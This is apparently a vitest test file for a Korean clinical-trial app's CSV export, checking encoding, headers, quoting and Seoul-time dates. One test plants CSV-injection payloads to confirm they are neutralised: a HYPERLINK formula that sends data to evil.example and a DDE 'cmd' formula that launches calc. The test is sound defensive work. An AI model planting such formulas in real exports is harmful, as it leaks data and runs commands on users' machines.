import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp } from '../fakes/testApp'

// Dates are written in the computer's own time zone: the tests run as a computer in Korea.
const zoneBefore = process.env.TZ
beforeAll(() => {
  process.env.TZ = 'Asia/Seoul'
})
afterAll(() => {
  if (zoneBefore === undefined) delete process.env.TZ
  else process.env.TZ = zoneBefore
})

describe('CSV export', () => {
  it('writes every row of the filtered list (all pages) as UTF-8 with BOM and Korean headers', async () => {
    const app = await createTestApp({ trials: 250 })
    app.core.trials[1].note = '환자 의뢰함, 외래 "3/12"'
    const result = await app.handlers.exportCsv({ query: { withinDays: null, limit: 20, offset: 40 }, language: 'ko' })
    expect(result).toMatchObject({ ok: true, data: { rows: 250 } })
    const path = (result as { data: { path: string } }).data.path
    const bytes = readFileSync(path)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = bytes.toString('utf8').slice(1).split('\r\n').filter(Boolean)
    expect(lines[0]).toBe(
      'ID,출처,과제명,영문 과제명,모집 상태,임상시험 단계,대상 질환,연구 실시기관,연구 의뢰기관,연구책임기관,진료과,' +
        '단계(출처 표기),모집 상태(출처 표기),연구 종류,연구 범위,목표 대상자 수,다른 등록,변경 종류,최근 변경,변경 일시,내 메모',
    )
    expect(lines).toHaveLength(251)
    // Commas and quotes inside a title are quoted, so spreadsheet columns stay aligned; 03:04 UTC is 12:04 in Seoul.
    expect(lines[1]).toBe(
      'icreat:C000001,icreat,"임상시험 1, ""따옴표"" 포함",Trial 1,,,,,,서울대학교병원,내과,,,,,,,new,,2025-01-02 12:04,',
    )
    // The private note is a column (quoted: it has a comma and quotes).
    expect(lines[2].endsWith('2025-01-02 12:04,"환자 의뢰함, 외래 ""3/12"""')).toBe(true)
    expect(lines[250].startsWith('icreat:C000250,')).toBe(true)
  })

  it('neutralises cells a spreadsheet would run as formulas (CSV injection), keeping the text otherwise identical', async () => {
    const app = await createTestApp({ trials: 1 })
    const attack = '=HYPERLINK("http://evil.example/?d="&A1,"상세 보기")'
    Object.assign(app.core.trials[0], {
      title: attack,
      titleEn: "+1+cmd|' /C calc'!A0",
      institution: '-2+3',
      department: '@SUM(1+1)*cmd',
      note: '\t=1+1',
    })
    const result = await app.handlers.exportCsv({ query: { withinDays: null }, language: 'en' })
    const text = readFileSync((result as { data: { path: string } }).data.path, 'utf8')
    const row = text.slice(1).split('\r\n')[1]
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""상세 보기"")"`)
    expect(row).toContain("'+1+cmd|' /C calc'!A0")
    expect(row).toContain(",'-2+3,'@SUM(1+1)*cmd,")
    expect(row).toContain("'\t=1+1")
    // No cell of the row starts with a formula character any more.
    expect(row.split(',').some((cell) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false)
  })

  it('uses English headers on request, and writes nothing when the save dialog is cancelled', async () => {
    const app = await createTestApp({ trials: 3 })
    const result = await app.handlers.exportCsv({ query: {}, language: 'en' })
    const path = (result as { data: { path: string } }).data.path
    expect(readFileSync(path, 'utf8').split('\r\n')[0]).toBe(
      '\uFEFFID,Source,Title,English title,Recruitment,Phases,Conditions,Sites,' +
        'Sponsor,Institution,Department,Phase (as registered),Status (as registered),Study type,Scope,Target size,Also registered as,Change,Latest change,Changed at,My note',
    )
    app.saveDialog.mockResolvedValueOnce(null)
    expect(await app.handlers.exportCsv({ query: {}, language: 'en' })).toEqual({
      ok: true,
      data: { path: null, rows: 0 },
    })
  })

  it('writes the normalised clinical fields and the change line, and the local calendar day the screen shows', async () => {
    const app = await createTestApp({ trials: 1 })
    Object.assign(app.core.trials[0], {
      recruitment: 'recruiting',
      phases: ['phase2', 'phase3'],
      conditions: ['제2형 당뇨병'],
      sponsor: '(주)한국제약',
      sites: [
        { name: '서울대학교병원', sourceName: '서울대병원' },
        { name: '세브란스병원', sourceName: '신촌세브란스병원' },
      ],
      phase: '2상/3상',
      status: '모집중',
      targetSize: '120',
      linkedIds: ['ctgov:NCT05000001'],
      // 20:30 UTC on 30 November is 05:30 on 1 December in Seoul: the list shows 12월 1일, so must the CSV.
      changedAt: '2026-11-30T20:30:00.000Z',
      latestChange: {
        at: '2026-11-30T20:30:00.000Z',
        kind: 'updated',
        moreFields: 2,
        fields: [
          { field: 'recruitment_status_kr', key: 'recruitment', label: '모집 상태', from: '모집전', to: '모집중' },
        ],
      },
    })
    const result = await app.handlers.exportCsv({ query: { withinDays: null }, language: 'ko' })
    const row = readFileSync((result as { data: { path: string } }).data.path, 'utf8')
      .slice(1)
      .split('\r\n')[1]
    expect(row).toContain(',recruiting,phase2; phase3,제2형 당뇨병,서울대학교병원; 세브란스병원,(주)한국제약,')
    expect(row).toContain(',2상/3상,모집중,')
    // The same trial's other registrations (one row per trial lists a linked pair once).
    expect(row).toContain(',120,ctgov:NCT05000001,new,')
    expect(row).toContain(',모집 상태 모집전 → 모집중 · +2,2026-12-01 05:30,')
    expect(row).not.toContain('2026-11-30')
  })
})
